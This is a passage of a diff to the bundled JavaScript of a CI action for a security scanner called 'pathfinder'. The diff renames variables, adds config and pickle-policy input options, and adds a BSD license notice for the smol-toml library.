       const url = cweUrl(c);
@@ -15714,7 +24051,7 @@ async function publishToGitHub(report, options, state, messages, warnings) {
       token: context.token,
       apiUrl: context.apiUrl,
       userAgent: `${report.tool.name}/${report.tool.version}`,
-      warn: (message2) => warnings.push(redact(message2, secrets)),
+      warn: (message15) => warnings.push(redact(message15, secrets)),
       ...options.github.client
     });
     let notInline = [];
@@ -15905,8 +24242,8 @@ async function executeCi(argv, io) {
       inlineMinSeverity
     }
   };
-  if (values.baseline) ciOptions.baselinePath = resolve5(io.cwd, values.baseline);
-  if (values["write-baseline"]) ciOptions.writeBaselinePath = resolve5(io.cwd, values["write-baseline"]);
+  if (values.baseline) ciOptions.baselinePath = resolve7(io.cwd, values.baseline);
+  if (values["write-baseline"]) ciOptions.writeBaselinePath = resolve7(io.cwd, values["write-baseline"]);
   let outcome;
   try {
     outcome = await runCi(report, ciOptions);
@@ -15925,7 +24262,7 @@ async function executeCi(argv, io) {
   for (const warning of outcome.warnings) io.stderr.write(`pathfinder ci: warning: ${redact(warning, secrets)}
 `);
   if (!values.quiet) {
-    for (const message2 of outcome.messages) io.stderr.write(`pathfinder ci: ${redact(message2, secrets)}
+    for (const message15 of outcome.messages) io.stderr.write(`pathfinder ci: ${redact(message15, secrets)}
 `);
     if (outputFile !== "-") io.stderr.write(`pathfinder ci: ${format} report written to ${outputFile}
 `);
@@ -15961,6 +24298,9 @@ function ciArgumentsFromInputs(env) {
   if (booleanInput(env, "show-suppressed", false)) args2.push("--show-suppressed");
   single("max-file-size", "max-file-size");
   single("jobs", "jobs");
+  single("config", "config");
+  single("pickle-policy", "pickle-policy");
+  for (const global2 of listInput(env, "pickle-allow")) args2.push("--pickle-allow", global2);
   single("output", "output");
   single("output-file", "output-file");
   single("fail-on", "fail-on");
@@ -16030,12 +24370,12 @@ async function runAction(env, io) {
       code3 = result2.exitCode;
       outcome = result2.outcome;
       findings = outcome.introduced.length;
-      if (result2.outputFile !== "-") resultsFile = resolve6(cwd, result2.outputFile);
+      if (result2.outputFile !== "-") resultsFile = resolve8(cwd, result2.outputFile);
     }
   } catch (error) {
     const known = error instanceof CliUsageError || error instanceof UsageError || error instanceof OutputError;
-    const message2 = known || error.code?.startsWith("ERR_PARSE_ARGS") ? error.message : String(error.stack ?? error);
-    io.stderr.write(`::error::pathfinder ci: ${redact(message2, [token]).replace(/\r?\n/g, "%0A")}
+    const message15 = known || error.code?.startsWith("ERR_PARSE_ARGS") ? error.message : String(error.stack ?? error);
+    io.stderr.write(`::error::pathfinder ci: ${redact(message15, [token]).replace(/\r?\n/g, "%0A")}
 `);
     code3 = 2;
   }
@@ -16055,6 +24395,43 @@ async function runAction(env, io) {
 // src/ci/action-main.ts
 process.exitCode = await runAction(process.env, { stdout: process.stdout, stderr: process.stderr });
 /*! Bundled license information:
+
+smol-toml/dist/error.js:
+smol-toml/dist/primitive.js:
+smol-toml/dist/date.js:
+smol-toml/dist/extract.js:
+smol-toml/dist/util.js:
+smol-toml/dist/struct.js:
+smol-toml/dist/parse.js:
+smol-toml/dist/stringify.js:
+smol-toml/dist/index.js:
+  (*!
+   * Copyright (c) Squirrel Chat et al., All rights reserved.
+   * SPDX-License-Identifier: BSD-3-Clause
+   *
+   * Redistribution and use in source and binary forms, with or without
+   * modification, are permitted provided that the following conditions are met:
+   *
+   * 1. Redistributions of source code must retain the above copyright notice, this
+   *    list of conditions and the following disclaimer.
+   * 2. Redistributions in binary form must reproduce the above copyright notice,
+   *    this list of conditions and the following disclaimer in the
+   *    documentation and/or other materials provided with the distribution.
+   * 3. Neither the name of the copyright holder nor the names of its contributors
+   *    may be used to endorse or promote products derived from this software without
+   *    specific prior written permission.
+   *
+   * THIS SOFTWARE IS PROVIDED BY THE COPYRIGHT HOLDERS AND CONTRIBUTORS "AS IS" AND
+   * ANY EXPRESS OR IMPLIED WARRANTIES, INCLUDING, BUT NOT LIMITED TO, THE IMPLIED
+   * WARRANTIES OF MERCHANTABILITY AND FITNESS FOR A PARTICULAR PURPOSE ARE
+   * DISCLAIMED. IN NO EVENT SHALL THE COPYRIGHT HOLDER OR CONTRIBUTORS BE LIABLE
+   * FOR ANY DIRECT, INDIRECT, INCIDENTAL, SPECIAL, EXEMPLARY, OR CONSEQUENTIAL
+   * DAMAGES (INCLUDING, BUT NOT LIMITED TO, PROCUREMENT OF SUBSTITUTE GOODS OR
+   * SERVICES; LOSS OF USE, DATA, OR PROFITS; OR BUSINESS INTERRUPTION) HOWEVER
+   * CAUSED AND ON ANY THEORY OF LIABILITY, WHETHER IN CONTRACT, STRICT LIABILITY,
+   * OR TORT (INCLUDING NEGLIGENCE OR OTHERWISE) ARISING IN ANY WAY OUT OF THE USE
+   * OF THIS SOFTWARE, EVEN IF ADVISED OF THE POSSIBILITY OF SUCH DAMAGE.
+   *)
 
 @octokit/request-error/dist-src/index.js:
   (* v8 ignore else -- @preserve -- Bug with vitest coverage where it sees an else branch that doesn't exist *)
